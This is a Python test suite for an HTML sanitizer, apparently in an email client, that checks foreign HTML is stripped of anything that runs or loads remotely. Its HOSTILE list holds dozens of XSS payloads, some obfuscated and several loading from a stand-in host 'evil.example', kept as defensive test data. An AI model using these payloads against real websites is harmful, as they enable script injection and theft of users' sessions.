"""Foreign HTML: nothing runs, nothing loads, everything is still readable."""

import pytest

from lib import html
from tests.lib.browser_eyes import unsafe

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    '<a href="java\u200bscript:alert(1)">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:1'>x</a></svg>",
    "<math><mi//xlink:href='data:x,<script>'>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=x></object>",
    "<embed src=x>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=p><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<body onload=alert(1)>",
    "<div style='position:fixed;top:0;left:0'>x</div>",
    "<div style='position: absolute'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='width:exp\\72 ession(alert(1))'>x</div>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<div style='-moz-binding:url(x)'>x</div>",
    "<style>@import '//evil.example';</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'></style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1)>",
    "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
    "<img srcset='javascript:alert(1)'>",
    "<a href='//evil.example'>x</a>",
    "<a href='/admin/'>x</a>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<b <script>alert(1)</script>0",
    "<div id=location class=fixed>x</div>",
]


@pytest.mark.parametrize("page", HOSTILE)
def test_nothing_harmful_passes(page: str) -> None:
    cleaned = html.clean(f"<p>before</p>{page}<p>after</p>")
    assert unsafe(cleaned) is None
    assert unsafe(html.with_remote_images(cleaned)) is None
    assert "before" in cleaned


def test_relative_links_and_own_ids_do_not_pass() -> None:
    cleaned = html.clean('<a href="/admin/" id="x" class="y">x</a>')
    assert not any(attribute in cleaned for attribute in ("href", "id=", "class"))


def test_harmless_formatting_passes() -> None:
    page = (
        '<p style="color: red; position: fixed; font-family: Arial" dir="rtl">سلام <b>x</b><table '
        'border="1"><tr><td bgcolor="#fff">y</td></tr></table></p>'
    )
    cleaned = html.clean(page)
    assert 'style="color:red;font-family:Arial"' in cleaned
    assert 'dir="rtl"' in cleaned
    assert '<td bgcolor="#fff">' in cleaned


def test_links_open_safely() -> None:
    for url in ("https://x.example/?a=1&b=2", "mailto:a@b.example", "tel:+923001234567"):
        cleaned = html.clean(f'<a href="{url}">x</a>')
        assert f'href="{url.replace("&", "&amp;")}"' in cleaned
        assert 'rel="noopener noreferrer nofollow"' in cleaned


def test_remote_images_wait_for_the_click() -> None:
    cleaned = html.clean(
        '<img src="https://x.example/pixel.gif?u=1" alt="a"><img src="//y.example/z.png"><img'
        " title='src=\"http://q\"' src=http://w.example>"
    )
    assert " src=" not in cleaned.replace("src=&quot;", "")
    assert html.remote_images(cleaned) == 3
    shown = html.with_remote_images(cleaned)
    assert 'src="https://x.example/pixel.gif?u=1"' in shown
    assert "data-remote-src" not in shown
    assert 'referrerpolicy="no-referrer"' in shown


def test_an_attribute_cannot_pose_as_an_image() -> None:
    page = "<a title='<img x=' name=' y='>t</a><img alt=' src=' src='https://x.example/1.png'>"
    assert html.remote_images(html.clean(page)) == 1


def test_inline_images_are_shown_from_attachments() -> None:
    cleaned = html.clean('<img src="cid:logo@x"><img src="CID:gone@x" alt="y">')
    assert html.content_ids(cleaned) == {"logo@x", "gone@x"}
    shown = html.with_inline_images(cleaned, {"logo@x": "/attachments/1?a=1&b=2"})
    assert 'src="/attachments/1?a=1&amp;b=2"' in shown
    assert shown.count("src=") == 1


def test_parser_bombs_are_named() -> None:
    for page in ("<div>" * 5000, "<p " + "".join(f"a{n}=1 " for n in range(30_000)) + ">", "&amp" * 50_000):
        with pytest.raises(html.TooComplex):
            html.clean(page)


def test_big_honest_pages_pass() -> None:
    row = (
        '<tr><td style="padding:4px"><font face="Arial"><b>Item</b></font></td><td><a '
        'href="https://x.example">link</a></td></tr>'
    )
    page = "<table>" + row * 3000 + "</table>" + "<p>text<br>more &amp; more</p>" * 3000
    assert html.clean(page).count("<tr>") == 3000


def test_to_text_reads_like_the_page() -> None:
    page = (
        "<h1>Title</h1><p>One &amp; <i>two</i>\n three</p><ul><li>a</li><li>b</li></ul><p>See <a"
        " href='https://x.example/y'>this</a> and"
        " <a href='https://x.example'>x.example</a></p><table><tr><td>1</td><td>2</td></tr></table><pre>a\n"
        "  b</pre>x &lt;b&gt;"
    )
    assert html.to_text(html.clean(page)) == (
        "Title\n\nOne & two three\n\n- a\n- b\n\nSee this <https://x.example/y> and x.example\n\n1 2\n\na\n  b\n\nx <b>"
    )


def test_lines_of_programs_that_write_a_div_a_line() -> None:
    page = "<div>One</div><div>Two<br></div><div><br></div><div>Three</div>"
    assert html.to_text(html.clean(page)) == "One\nTwo\n\nThree"


def test_from_text_escapes_and_links() -> None:
    made = html.from_text("Hi <b> & you\nsee https://x.example/a?b=1&c=2.\n\nنیا پیراگراف")
    assert made.startswith('<p dir="auto">Hi &lt;b&gt; &amp; you<br>\nsee <a href="https://x.example/a?b=1&amp;c=2"')
    assert made.endswith('</a>.</p>\n<p dir="auto">نیا پیراگراف</p>')
    assert "<a" not in html.from_text("https://x.example", links=False)
    assert html.from_text("") == ""


def test_text_survives_there_and_back() -> None:
    for text in ("One\ntwo\n\nthree", "a < b & c > d", "سلام\n\nدنیا"):
        assert html.to_text(html.clean(html.from_text(text))) == text
